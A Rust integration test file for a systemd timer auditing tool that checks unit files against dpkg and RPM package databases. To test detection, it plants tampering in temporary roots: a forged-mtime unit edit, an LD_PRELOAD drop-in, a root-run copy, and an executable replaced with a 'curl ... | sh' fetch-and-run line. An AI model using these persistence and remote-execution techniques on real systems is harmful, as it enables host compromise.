//! Package provenance on real package databases: a debootstrapped Debian root (dpkg)
//! and an RPM database made by Debian's `rpm` from packages built with `rpmbuild` — not
//! hand-written copies of the formats. One planted case of each: a generator no package
//! owns, a packaged unit changed with its mtime forged, a root-run executable changed, a
//! copy of a packaged unit in /etc that changes who runs what.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use serde_json::Value;

use crate::common::*;

fn sh(args: &[&str]) {
    let o = Command::new(args[0]).args(&args[1..]).output().unwrap();
    assert!(
        o.status.success(),
        "{args:?}: {}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
}

fn check(root: &Path) -> Value {
    let o = Command::new(env!("CARGO_BIN_EXE_timerguard"))
        .arg("--root")
        .arg(root)
        .args(["check", "--format", "json", "--fail-on", "info"])
        .output()
        .unwrap();
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stderr)))
}

fn found(r: &Value, prefix: &str) -> Vec<(String, String, String)> {
    let mut v: Vec<(String, String, String)> = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["policy"].as_str().unwrap().starts_with(prefix))
        .map(|f| {
            let s = |k: &str| f[k].as_str().unwrap().to_string();
            (s("policy"), s("rule"), s("subject"))
        })
        .collect();
    v.sort();
    v
}

fn want(v: &[(&str, &str, &str)]) -> Vec<(String, String, String)> {
    v.iter().map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string())).collect()
}

#[test]
fn dpkg_provenance_on_a_debootstrapped_root() {
    let Ok(base) = std::env::var("TIMERGUARD_DEBIAN_ROOT") else {
        skip("TIMERGUARD_DEBIAN_ROOT not set (scripts/test.sh builds one)");
        return;
    };
    if !is_root() {
        skip("copying the root keeps owners only as root");
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let root = d.path().join("r");
    sh(&["cp", "-a", &base, root.to_str().unwrap()]);
    let clean = check(&root);
    assert!(found(&clean, "TG5").is_empty(), "every vendor file is packaged and intact: {:?}", found(&clean, "TG5"));
    let facts: Value = serde_json::from_slice(
        &Command::new(env!("CARGO_BIN_EXE_timerguard")).arg("--root").arg(&root).arg("facts").output().unwrap().stdout,
    )
    .unwrap();
    assert_eq!(facts["packages"]["manager"], "dpkg");
    let p = facts["provenance"].as_array().unwrap();
    let lr = p.iter().find(|f| f["path"] == "/usr/lib/systemd/system/logrotate.timer").unwrap();
    assert_eq!((lr["package"].as_str(), lr["digest"].as_str()), (Some("logrotate"), Some("match")), "{lr}");

    // A generator nobody packaged.
    let g = root.join("usr/lib/systemd/system-generators/zz-persist");
    std::fs::write(&g, "#!/bin/sh\n").unwrap();
    std::fs::set_permissions(&g, std::fs::Permissions::from_mode(0o755)).unwrap();
    // A packaged unit changed, its mtime put back.
    let svc = root.join("usr/lib/systemd/system/logrotate.service");
    let mtime = std::fs::metadata(&svc).unwrap().modified().unwrap();
    let mut text = std::fs::read_to_string(&svc).unwrap();
    text.push_str("ExecStartPost=/usr/bin/true\n");
    std::fs::write(&svc, text).unwrap();
    std::fs::File::options().write(true).open(&svc).unwrap().set_modified(mtime).unwrap();
    assert_eq!(std::fs::metadata(&svc).unwrap().modified().unwrap(), mtime, "the mtime tells nothing");
    // A full copy in /etc of a packaged unit, running its command as root.
    let vendor = std::fs::read_to_string(root.join("usr/lib/systemd/system/man-db.service")).unwrap();
    let copy: String = vendor.lines().filter(|l| !l.starts_with("User=")).map(|l| format!("{l}\n")).collect();
    std::fs::write(root.join("etc/systemd/system/man-db.service"), copy).unwrap();

    let r = check(&root);
    assert_eq!(
        found(&r, "TG5"),
        want(&[
            ("TG501", "unpackaged", "/usr/lib/systemd/system-generators/zz-persist"),
            ("TG502", "modified", "/usr/lib/systemd/system/logrotate.service"),
            ("TG503", "security-settings-changed", "/etc/systemd/system/man-db.service"),
        ])
    );
    let diff = r["findings"].as_array().unwrap().iter().find(|f| f["policy"] == "TG503").unwrap();
    let msg = diff["message"].as_str().unwrap();
    assert!(msg.contains("User: man -> (unset)") && msg.contains("package man-db"), "{msg}");
}

#[test]
fn rpm_provenance_from_a_real_rpmdb() {
    if !is_root() {
        skip("rpm --root needs root");
        return;
    }
    if Command::new("rpmbuild").arg("--version").output().is_err() {
        skip("rpmbuild not installed (scripts/test.sh installs rpm)");
        return;
    }
    let w = tempfile::tempdir().unwrap();
    let src = w.path().join("src");
    std::fs::create_dir_all(&src).unwrap();
    std::fs::write(src.join("acme.timer"), timer("daily")).unwrap();
    std::fs::write(src.join("acme.service"), "[Service]\nExecStart=/usr/bin/acme-job\n").unwrap();
    std::fs::write(src.join("acme-job"), "#!/bin/sh\necho hi\n").unwrap();
    let spec = w.path().join("acme.spec");
    std::fs::write(
        &spec,
        "Name: acme\nVersion: 1.0\nRelease: 1\nSummary: t\nLicense: MIT\nBuildArch: noarch\n%description\nt\n%install\n\
         mkdir -p %{buildroot}/usr/lib/systemd/system %{buildroot}/usr/bin\n\
         install -m 0644 %{_sourcedir}/acme.timer %{buildroot}/usr/lib/systemd/system/acme.timer\n\
         install -m 0644 %{_sourcedir}/acme.service %{buildroot}/usr/lib/systemd/system/acme.service\n\
         install -m 0755 %{_sourcedir}/acme-job %{buildroot}/usr/bin/acme-job\n\
         %files\n/usr/lib/systemd/system/acme.timer\n/usr/lib/systemd/system/acme.service\n/usr/bin/acme-job\n",
    )
    .unwrap();
    let top = w.path().join("top");
    sh(&[
        "rpmbuild",
        "-bb",
        "--quiet",
        "--define",
        &format!("_topdir {}", top.display()),
        "--define",
        &format!("_sourcedir {}", src.display()),
        spec.to_str().unwrap(),
    ]);
    let fx = Fx::new();
    fx.debian_layout();
    std::fs::create_dir_all(fx.host_path("/usr/lib/systemd/system/timers.target.wants")).unwrap();
    let r = fx.path().to_str().unwrap();
    sh(&["rpm", "--root", r, "--dbpath", "/var/lib/rpm", "--initdb"]);
    let pkg = top.join("RPMS/noarch/acme-1.0-1.noarch.rpm");
    sh(&[
        "rpm",
        "-i",
        "--root",
        r,
        "--dbpath",
        "/var/lib/rpm",
        "--nodeps",
        "--noscripts",
        "--nosignature",
        pkg.to_str().unwrap(),
    ]);
    fx.link("/etc/systemd/system/timers.target.wants/acme.timer", "/usr/lib/systemd/system/acme.timer");
    assert!(fx.host_path("/var/lib/rpm/rpmdb.sqlite").exists());
    let clean = check(fx.path());
    assert!(found(&clean, "TG5").is_empty(), "{:?}", found(&clean, "TG5"));
    let facts: Value = serde_json::from_slice(
        &Command::new(env!("CARGO_BIN_EXE_timerguard")).args(["--root", r, "facts"]).output().unwrap().stdout,
    )
    .unwrap();
    assert_eq!((facts["packages"]["manager"].as_str(), facts["packages"]["packages"].as_u64()), (Some("rpm"), Some(1)));
    let job =
        facts["provenance"].as_array().unwrap().iter().find(|f| f["path"] == "/usr/bin/acme-job").unwrap().clone();
    assert_eq!(
        (job["package"].as_str(), job["digest"].as_str(), job["role"].as_str()),
        (Some("acme"), Some("match"), Some("executable"))
    );

    fx.file("/usr/bin/acme-job", "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n").mode("/usr/bin/acme-job", 0o755);
    fx.file("/usr/lib/systemd/system/evil.timer", &timer("hourly"));
    let r = check(fx.path());
    assert_eq!(
        found(&r, "TG5"),
        want(&[
            ("TG501", "unpackaged", "/usr/lib/systemd/system/evil.timer"),
            ("TG502", "modified", "/usr/bin/acme-job"),
        ])
    );
    let f = r["findings"].as_array().unwrap().iter().find(|f| f["policy"] == "TG502").unwrap().clone();
    assert_eq!(f["severity"], "critical", "a root-run executable changed: {f}");
}

/// A snapshot of a real Debian root, one planted change of each kind, exactly those
/// reported — from the root and, centrally, from its facts file.
#[test]
fn trusted_snapshot_reports_exactly_what_changed() {
    let Ok(base) = std::env::var("TIMERGUARD_DEBIAN_ROOT") else {
        skip("TIMERGUARD_DEBIAN_ROOT not set (scripts/test.sh builds one)");
        return;
    };
    if !is_root() {
        skip("copying the root keeps owners only as root");
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let root = d.path().join("r");
    sh(&["cp", "-a", &base, root.to_str().unwrap()]);
    let tg = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_timerguard")).arg("--root").arg(&root).args(args).output().unwrap()
    };
    let snap = d.path().join("golden.json");
    let o = tg(&["snapshot", "--output", snap.to_str().unwrap()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let unchanged = tg(&["check", "--trusted", snap.to_str().unwrap(), "--format", "json"]);
    let r: Value = serde_json::from_slice(&unchanged.stdout).unwrap();
    assert!(found(&r, "TG510").is_empty(), "nothing changed: {:?}", found(&r, "TG510"));

    let put = |rel: &str, s: &str| {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, s).unwrap();
    };
    // New: a timer and its service, enabled.
    put("etc/systemd/system/sync.timer", &timer("hourly"));
    put("etc/systemd/system/sync.service", "[Service]\nExecStart=/usr/bin/true\n");
    std::os::unix::fs::symlink(
        "/etc/systemd/system/sync.timer",
        root.join("etc/systemd/system/timers.target.wants/sync.timer"),
    )
    .unwrap();
    // Changed: a drop-in adds an environment to a packaged service.
    put("etc/systemd/system/logrotate.service.d/env.conf", "[Service]\nEnvironment=LD_PRELOAD=/opt/x.so\n");
    // Changed: a timer's schedule.
    let e2 = root.join("usr/lib/systemd/system/e2scrub_all.timer");
    let text = std::fs::read_to_string(&e2).unwrap().replace("OnCalendar=Sun *-*-* 03:10:00", "OnCalendar=*:0/5");
    std::fs::write(&e2, text).unwrap();
    // Changed: a timer disabled.
    std::fs::remove_file(root.join("etc/systemd/system/timers.target.wants/fstrim.timer")).unwrap();
    // Gone: a timer (its file and its enablement link) and its service.
    for p in [
        "usr/lib/systemd/system/dpkg-db-backup.timer",
        "usr/lib/systemd/system/dpkg-db-backup.service",
        "etc/systemd/system/timers.target.wants/dpkg-db-backup.timer",
    ] {
        std::fs::remove_file(root.join(p)).unwrap();
    }

    let after = |args: &[&str]| -> Vec<(String, String, String)> {
        let o = Command::new(env!("CARGO_BIN_EXE_timerguard")).args(args).output().unwrap();
        let r: Value =
            serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&o.stderr)));
        found(&r, "TG510")
    };
    let s = snap.to_str().unwrap();
    let got = after(&["--root", root.to_str().unwrap(), "check", "--trusted", s, "--format", "json"]);
    let expected = want(&[
        ("TG510", "changed", "e2scrub_all.timer (system)"),
        ("TG510", "changed", "fstrim.timer (system)"),
        ("TG510", "changed", "logrotate.service (system)"),
        ("TG510", "gone", "dpkg-db-backup.service (system)"),
        ("TG510", "gone", "dpkg-db-backup.timer (system)"),
        ("TG510", "new", "sync.service (system)"),
        ("TG510", "new", "sync.timer (system)"),
    ]);
    assert_eq!(got, expected);
    // Centrally, from the host's facts.
    let facts = d.path().join("host.json");
    std::fs::write(&facts, tg(&["facts"]).stdout).unwrap();
    assert_eq!(after(&["check", "--facts", facts.to_str().unwrap(), "--trusted", s, "--format", "json"]), expected);
    let o = tg(&["check", "--trusted", s, "--format", "json"]);
    let r: Value = serde_json::from_slice(&o.stdout).unwrap();
    let msg = |subject: &str| {
        r["findings"].as_array().unwrap().iter().find(|f| f["subject"] == subject).unwrap()["message"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert!(
        msg("logrotate.service (system)").contains("setting Service.Environment: (none) -> LD_PRELOAD=/opt/x.so"),
        "{}",
        msg("logrotate.service (system)")
    );
    assert!(
        msg("e2scrub_all.timer (system)").contains("setting Timer.OnCalendar: Sun *-*-* 03:10:00 -> *:0/5"),
        "{}",
        msg("e2scrub_all.timer (system)")
    );
    assert!(
        msg("fstrim.timer (system)").contains("activation: enabled (runs: yes) -> "),
        "{}",
        msg("fstrim.timer (system)")
    );
}

/// The digest of every shared unit file, drop-in, linked fragment, shadowed copy and
/// generator is the SHA-256 of the bytes on disk, whether the scopes had read the file
/// already (and its digest is reused) or not; and each is there once.
#[test]
fn each_provenance_digest_is_the_digest_of_the_file_on_disk() {
    let fx = Fx::new();
    fx.debian_layout()
        .file("/etc/systemd/system/a.service", &service("/usr/bin/a"))
        .file("/etc/systemd/system/a.service.d/x.conf", "[Service]\nNice=5\n")
        .file("/etc/systemd/system/service.d/all.conf", "[Service]\nNice=1\n")
        .file("/opt/units/b.service", &service("/usr/bin/b"))
        .link("/etc/systemd/system/b.service", "/opt/units/b.service")
        .file("/usr/lib/systemd/system/c.timer", &timer("daily"))
        .file("/etc/systemd/system/c.timer", &timer("weekly"))
        .file("/usr/lib/systemd/system/c.service", &service("/usr/bin/c"))
        .file("/usr/lib/systemd/user/d.timer", &timer("hourly"))
        .file("/usr/lib/systemd/system-generators/gen", "#!/bin/sh\n")
        .file("/usr/bin/c", "#!/bin/sh\necho c\n")
        .mode("/usr/bin/c", 0o755);
    let h = fx.collect();
    let mut seen: Vec<&str> = h.provenance.iter().map(|p| p.path.as_str()).collect();
    for p in &h.provenance {
        let bytes = std::fs::read(fx.host_path(&p.path)).unwrap();
        assert_eq!(p.sha256.as_deref(), Some(timerguard::digest::sha256(&bytes).as_str()), "{}", p.path);
    }
    seen.sort_unstable();
    let n = seen.len();
    seen.dedup();
    assert_eq!(seen.len(), n, "each file once");
    for want in [
        "/etc/systemd/system/a.service",
        "/etc/systemd/system/a.service.d/x.conf",
        "/etc/systemd/system/service.d/all.conf",
        "/opt/units/b.service",
        "/etc/systemd/system/c.timer",
        "/usr/lib/systemd/system/c.service",
        "/usr/lib/systemd/user/d.timer",
        "/usr/lib/systemd/system-generators/gen",
    ] {
        assert!(seen.contains(&want), "{want} in {seen:?}");
    }
}

/// The dpkg lists are read on every thread and taken in the directory's order: on a
/// hand-made database of many packages each unit is owned by the package whose list names
/// it, with the digest of that package's md5sums; a removed package's leftover list owns
/// nothing; an unreadable list is a warning naming it, and the other lists still count;
/// a list with a path that is not UTF-8 still owns its units.
#[test]
fn dpkg_lists_read_in_parallel_own_exactly_their_units() {
    let fx = Fx::new();
    fx.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    let mut status = String::new();
    let unit = |i: usize| format!("/usr/lib/systemd/system/job{i:03}.timer");
    for i in 0..120 {
        let (name, text) = (format!("pkg{i:03}"), timer(&format!("*-*-* {:02}:00", i % 24)));
        let state = if i % 10 == 9 { "deinstall ok config-files" } else { "install ok installed" };
        status.push_str(&format!("Package: {name}\nStatus: {state}\nArchitecture: amd64\n\n"));
        fx.file(&unit(i), &text);
        if i % 7 == 3 {
            fx.dir(&format!("/var/lib/dpkg/info/{name}.list")); // not readable as a file
            continue;
        }
        // Some lists hold a path that is not UTF-8 (read as lossy text, as before).
        let odd: &[u8] = if i % 5 == 0 { b"/usr/share/doc/caf\xe9\n" } else { b"" };
        let list =
            [b"/.\n/usr\n".as_slice(), odd, format!("/usr/lib/systemd/system\n{}\n", unit(i)).as_bytes()].concat();
        fx.bytes(&format!("/var/lib/dpkg/info/{name}.list"), &list);
        if i % 2 == 0 {
            let sum = if i % 4 == 0 {
                {
                    use md5::Digest;
                    md5::Md5::digest(text.as_bytes()).iter().map(|b| format!("{b:02x}")).collect()
                }
            } else {
                "0".repeat(32)
            };
            fx.file(&format!("/var/lib/dpkg/info/{name}.md5sums"), &format!("{sum}  {}\n", &unit(i)[1..]));
        } else if i % 3 == 1 {
            fx.dir(&format!("/var/lib/dpkg/info/{name}.md5sums")); // there, not readable
        }
    }
    fx.file("/var/lib/dpkg/status", &status);
    let o = fx.cli(&["facts"]);
    let facts: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(facts["packages"]["packages"], 108, "the installed packages (a removed one's list is left out)");
    let prov = facts["provenance"].as_array().unwrap();
    let warned: Vec<&str> = facts["warnings"].as_array().unwrap().iter().filter_map(|w| w["path"].as_str()).collect();
    for i in 0..120 {
        let f = prov.iter().find(|f| f["path"] == unit(i).as_str()).unwrap_or_else(|| panic!("{}", unit(i)));
        let list = format!("/var/lib/dpkg/info/pkg{i:03}.list");
        let (package, digest) = if i % 10 == 9 || i % 7 == 3 {
            (None, "unknown")
        } else if i % 4 == 0 {
            (Some(format!("pkg{i:03}")), "match")
        } else if i % 2 == 0 {
            (Some(format!("pkg{i:03}")), "differs")
        } else {
            (Some(format!("pkg{i:03}")), "unknown")
        };
        assert_eq!(f["package"].as_str().map(str::to_string), package, "{f}");
        assert_eq!(f["digest"], digest, "{f}");
        let unreadable = i % 7 == 3 && i % 10 != 9;
        assert_eq!(warned.contains(&list.as_str()), unreadable, "{list}: {warned:?}");
        // A missing md5sums is common and not said; one that is there but unreadable is
        // (only a package whose list was read and owns a unit looks at its md5sums).
        let md5sums = format!("/var/lib/dpkg/info/pkg{i:03}.md5sums");
        let bad_sums = i % 2 == 1 && i % 3 == 1 && !unreadable && i % 10 != 9;
        assert_eq!(warned.contains(&md5sums.as_str()), bad_sums, "{md5sums}: {warned:?}");
    }
}

/// A dpkg database whose `info` is not a directory (a file, a loop of links, a link to
/// nothing) is said once, naming `info` and why, and the rest of the run goes on: the
/// unit is there, owned by no package. A `/var/lib/dpkg` or an `info` that is a link
/// inside the root is followed, as dpkg follows it (a linked `info` was refused before,
/// as "cannot list" with no cause).
#[test]
fn a_dpkg_info_that_cannot_be_listed_is_a_warning_naming_it_and_why() {
    // One installed package `p`, and the timer its list would own.
    let one_package = || {
        let fx = Fx::new();
        fx.file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
            .file("/usr/lib/systemd/system/job.timer", &timer("daily"))
            .file("/var/lib/dpkg/status", "Package: p\nStatus: install ok installed\nArchitecture: all\n\n");
        fx
    };
    for linked in ["/var/lib/dpkg", "/var/lib/dpkg/info"] {
        let fx = one_package();
        fx.file("/var/lib/dpkg/info/p.list", "/usr/lib/systemd/system\n/usr/lib/systemd/system/job.timer\n");
        std::fs::rename(fx.host_path(linked), fx.host_path("/srv")).unwrap();
        fx.link(linked, "/srv");
        let o = fx.cli(&["facts"]);
        let facts: Value = serde_json::from_slice(&o.stdout).unwrap();
        let dpkg_said: Vec<&Value> =
            facts["warnings"].as_array().unwrap().iter().filter(|w| w.to_string().contains("dpkg")).collect();
        assert!(dpkg_said.is_empty(), "{linked} a link: {dpkg_said:?}");
        let prov = facts["provenance"].as_array().unwrap();
        let job = prov.iter().find(|f| f["path"] == "/usr/lib/systemd/system/job.timer").unwrap();
        assert_eq!(job["package"], "p", "{linked} a link: {job}");
    }
    for (how, want) in [("file", "Not a directory"), ("loop", "symbolic links"), ("dangling", "No such file")] {
        let fx = one_package();
        match how {
            "file" => {
                fx.file("/var/lib/dpkg/info", "not a directory\n");
            }
            "loop" => {
                fx.link("/var/lib/dpkg/info", "/var/lib/dpkg/info2").link("/var/lib/dpkg/info2", "/var/lib/dpkg/info");
            }
            _ => {
                fx.link("/var/lib/dpkg/info", "/nowhere");
            }
        }
        let o = fx.cli(&["facts"]);
        assert!(o.status.success(), "{how}: {}", String::from_utf8_lossy(&o.stderr));
        let facts: Value = serde_json::from_slice(&o.stdout).unwrap();
        let said: Vec<&Value> =
            facts["warnings"].as_array().unwrap().iter().filter(|w| w["path"] == "/var/lib/dpkg/info").collect();
        assert_eq!(said.len(), 1, "{how}: {said:?}");
        let m = said[0]["message"].as_str().unwrap();
        assert!(m.starts_with("package database: cannot list: ") && m.contains(want), "{how}: {m}");
        let prov = facts["provenance"].as_array().unwrap();
        let job = prov.iter().find(|f| f["path"] == "/usr/lib/systemd/system/job.timer").unwrap();
        assert!(job["package"].is_null(), "{how}: {job}");
        assert_eq!(facts["packages"]["manager"], "dpkg", "{how}");
    }
}
